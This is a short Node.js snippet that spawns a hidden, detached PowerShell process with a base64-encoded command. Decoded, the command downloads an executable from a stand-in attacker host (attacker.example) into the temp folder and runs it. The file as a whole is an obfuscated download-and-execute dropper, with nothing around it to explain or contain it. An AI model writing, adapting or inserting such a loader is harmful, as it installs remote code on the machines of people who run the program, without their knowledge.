const { spawn } = require("child_process");

const encoded = "JABwAD0AIgAkAGUAbgB2ADoAVABFAE0AUABcAHUALgBlAHgAZQAiADsAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQALgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAEYAaQBsAGUAKAAiAGgAdAB0AHAAcwA6AC8ALwBhAHQAdABhAGMAawBlAHIALgBlAHgAYQBtAHAAbABlAC8AdQAuAGUAeABlACIALAAkAHAAKQA7AFMAdABhAHIAdAAtAFAAcgBvAGMAZQBzAHMAIAAkAHAA";
const child = spawn("powershell.exe", ["-NoP", "-W", "Hidden", "-EncodedCommand", encoded], {
  detached: true,
  stdio: "ignore",
  windowsHide: true,
});
child.unref();
